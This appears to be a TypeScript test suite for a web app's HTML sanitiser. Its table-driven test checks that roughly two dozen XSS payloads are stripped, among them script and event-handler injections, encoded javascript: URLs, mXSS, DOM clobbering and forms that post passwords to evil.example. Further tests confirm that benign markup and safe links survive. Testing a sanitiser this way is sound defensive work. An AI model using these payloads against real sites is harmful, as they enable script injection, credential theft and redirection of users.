import { sanitise } from './sanitise';

function cleaned(html: string): string {
  const holder = document.createElement('div');
  holder.append(sanitise(html));
  return [...holder.childNodes].map((node) => (node instanceof Element ? node.outerHTML : node.textContent)).join(''); // oxlint-disable-line unison/syntax -- reading, not writing
}

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['a script in a picture', '<img src=x onerror=alert(1)>'],
  ['a script in a drawing', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['a script in formulas', '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>'],
  ['a handler on a word', '<b onmouseover="alert(1)">b</b>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">'],
  ['a form that sends elsewhere', '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>'],
  ['a button that sends the form around it', '<button formaction="https://evil.example/">Go</button>'],
  ['an overlay over the whole app', '<div style="position:fixed;inset:0">Pay here</div>'],
  ['a stylesheet', '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a base that turns every address', '<base href="https://evil.example/">'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['an address that is a script', '<a href="javascript:alert(1)">x</a>'],
  ['one with a break in it', '<a href="java&#10;script:alert(1)">x</a>'],
  ['one behind a space', '<a href=" &#14;javascript:alert(1)">x</a>'],
  ['one in other letters', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['an address that is a document', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['one of the local machine', '<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">y</a>'],
  ['a picture that is a script', '<img src="javascript:alert(1)">'],
  ['a name that hides a function of the page', '<img name="getElementById" id="root" src="/a.png"><a id="location">x</a>'],
  ['a class of our own', '<p class="yarl__root">x</p>'],
  ['a slot and a template', '<template><script>alert(1)</script></template><slot name="x"></slot>'],
  ['a popover', '<div popover id="p">x</div><button popovertarget="p">y</button>'],
  ['a word for screen readers that is not there', '<p aria-label="You have won">x</p>'],
  ['a comment that ends in a script', '<!--><script>alert(1)</script>-->'],
])('%s is taken out [O-46] [security 32]', (_what, html) => {
  expect(cleaned(html)).not.toMatch(
    /script|on\w+=|style|<form|<input|<button|<iframe|<object|<embed|<svg|<math|<base|<meta|<link|evil|javascript|vbscript|file:|data:|\bid=|name=|class=|popover|aria-|<!--/i,
  );
});

test('words, their structure and pictures stay', () => {
  const html =
    '<h2>Title</h2><p>One <b>two</b> <i>three</i></p><ul><li>four</li></ul><table><tbody><tr><td colspan="2">five</td></tr></tbody></table>';
  expect(cleaned(html)).toBe(html);
  expect(cleaned('<img src="/a.webp" alt="A">')).toMatch(/^<img src="\/a.webp" alt="A"/);
});

test('a picture keeps its size, so that nothing jumps when it comes', () => {
  expect(cleaned('<img src="/a.webp" alt="A" width="320" height="200">')).toMatch(/width="320" height="200"/);
});

test('the words of what is taken out stay', () => {
  expect(cleaned('<form><p>Read <font color="red">this</font></p></form>')).toBe('<p>Read this</p>');
});

test('links and pictures keep honest addresses', () => {
  expect(cleaned('<a href="https://example.org/">x</a>')).toBe(
    '<a href="https://example.org/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
  expect(cleaned('<a href="/Notice">x</a>')).toBe('<a href="/Notice" rel="noopener noreferrer nofollow">x</a>');
  expect(cleaned('<img src="/media/a.webp">')).toBe('<img src="/media/a.webp" loading="lazy" decoding="async" alt="">');
});

test('an address that only looks like a path of ours does not stay [security 33]', () => {
  expect(cleaned('<a href="//evil.example/">x</a><a href="/\\evil.example/">y</a>')).toBe('<a>x</a><a>y</a>');
});

test('Vietnamese, Chinese and Japanese survive', () => {
  expect(cleaned('<p>Trang chủ · 首页 · ホーム</p>')).toBe('<p>Trang chủ · 首页 · ホーム</p>');
});

test('an address of the app itself, written in full, opens no second app [O-46]', () => {
  expect(cleaned(`<a href="${location.origin}/luckDraw">x</a>`)).not.toContain('target');
});
